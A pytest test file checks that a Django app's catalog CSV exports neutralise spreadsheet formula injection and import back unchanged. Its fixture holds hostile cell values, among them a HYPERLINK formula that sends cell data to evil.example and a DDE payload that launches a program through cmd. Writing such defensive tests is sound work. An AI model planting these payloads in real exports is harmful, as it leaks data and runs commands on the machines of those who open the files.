"""Catalog CSV exports cannot run a formula, and they still import back exactly: the neutralising quote the
writer adds is taken off again on import (apps/core/csv.py: ``restore``)."""

import csv
import io
from io import StringIO

import pytest
import yaml
from django.core.management import call_command

from apps.tenancy import catalog

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK(CONCAT("http://evil.example/?",A1),"x")'

DOCUMENT = {
    "budget_owners": [
        {
            "code": "CC-1000",
            "name": FORMULA,
            "parent": None,
            "gl_account": "-6420+1",
            "department": "@ENG",
            "company_code": "+US01",
            "erp_class": "'quoted",
            "location": "Paris;=1+2",
            "owner_users": [],
            "is_active": True,
            "is_central": False,
        }
    ],
    "budgets": [{"owner": "CC-1000", "period": "2026-10", "amount": "1000.00", "currency": "USD"}],
    "taxonomy": [
        {
            "key": "team",
            "label": "=Team",
            "description": "-1+2 teams",
            "required": False,
            "case_rule": "preserve",
            "granularity": "cube",
            "position": 10,
            "is_active": True,
            "values": [
                {
                    "value": "=cmd|' /C calc'!A0",
                    "description": "@SUM(A1:A9)",
                    "owner": "CC-1000",
                    "is_active": True,
                    "aliases": ["+srch", "-search"],
                },
                {"value": "search", "description": "", "owner": None, "is_active": True, "aliases": []},
            ],
        }
    ],
    "price_overrides": [
        {
            "provider": "anthropic",
            "model": "",
            "usage_type": "",
            "service_tier": "",
            "price": None,
            "unit": "",
            "discount_pct": "8",
            "effective_from": "2026-01-01",
            "effective_to": None,
            "note": "=1+2 agreement",
            "is_active": True,
        }
    ],
}


@pytest.fixture(autouse=True)
def _price_book(price_book):
    """Price overrides name providers of the shipped price book."""


def _run(command: str, *args) -> str:
    out = StringIO()
    call_command(command, *args, stdout=out, stderr=StringIO())
    return out.getvalue()


def _export_csv(organization, section: str) -> str:
    return _run("export_catalog", "--org", organization.slug, "--section", section, "--format", "csv")


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def hostile(world, tmp_path):
    path = tmp_path / "catalog.yaml"
    path.write_text(yaml.safe_dump(DOCUMENT, sort_keys=False), encoding="utf-8")
    _run("import_catalog", str(path), "--org", world.org("a").slug)
    return world.org("a")


def test_the_stored_values_are_the_hostile_text(hostile):
    exported = catalog.catalog_export(organization=hostile)
    assert exported["budget_owners"][0]["name"] == FORMULA
    assert exported["taxonomy"][0]["values"][0]["value"] == "=cmd|' /C calc'!A0"


def test_every_hostile_cell_of_every_section_is_neutralised(hostile):
    [owner] = _rows(_export_csv(hostile, "budget_owners"))
    assert (owner["code"], owner["name"]) == ("CC-1000", "'" + FORMULA)
    assert (owner["gl_account"], owner["department"], owner["company_code"]) == ("'-6420+1", "'@ENG", "'+US01")
    assert (owner["erp_class"], owner["location"]) == ("''quoted", "Paris;=1+2")

    [value, _search] = _rows(_export_csv(hostile, "taxonomy"))
    assert (value["label"], value["description"]) == ("'=Team", "'-1+2 teams")
    assert (value["value"], value["value_description"], value["aliases"]) == (
        "'=cmd|' /C calc'!A0",
        "'@SUM(A1:A9)",
        "'+srch;-search",
    )

    [override] = _rows(_export_csv(hostile, "price_overrides"))
    assert override["note"] == "'=1+2 agreement"

    [budget] = _rows(_export_csv(hostile, "budgets"))
    assert budget == {"owner": "CC-1000", "period": "2026-10", "amount": "1000.00", "currency": "USD"}


def test_the_location_with_a_formula_after_a_separator_stays_one_quoted_cell(hostile):
    text = _export_csv(hostile, "budget_owners")
    assert ',"Paris;=1+2",' in text.splitlines()[1]


@pytest.mark.parametrize(
    ("section", "rows"), [("budget_owners", 1), ("budgets", 1), ("taxonomy", 3), ("price_overrides", 1)]
)
def test_each_csv_export_imports_back_unchanged(world, hostile, tmp_path, section, rows):
    path = tmp_path / f"{section}.csv"
    path.write_text(_export_csv(hostile, section), encoding="utf-8")

    out = _run("import_catalog", str(path), "--org", hostile.slug, "--section", section)

    assert out.splitlines() == [f"{section}: 0 created, 0 updated, {rows} unchanged"]  # taxonomy: 1 dimension, 2 values


def test_the_csv_exports_carry_the_catalog_to_the_other_org_exactly(world, hostile, tmp_path):
    other = world.org("b")
    for section in catalog.SECTION_NAMES:
        path = tmp_path / f"{section}.csv"
        path.write_text(_export_csv(hostile, section), encoding="utf-8")
        _run("import_catalog", str(path), "--org", other.slug, "--section", section)

    def sections(organization):
        return {k: v for k, v in catalog.catalog_export(organization=organization).items() if k in DOCUMENT}

    assert sections(other) == sections(hostile)
    assert sections(other)["budget_owners"][0]["erp_class"] == "'quoted"
    assert sections(other)["taxonomy"][0]["values"][0]["aliases"] == ["+srch", "-search"]
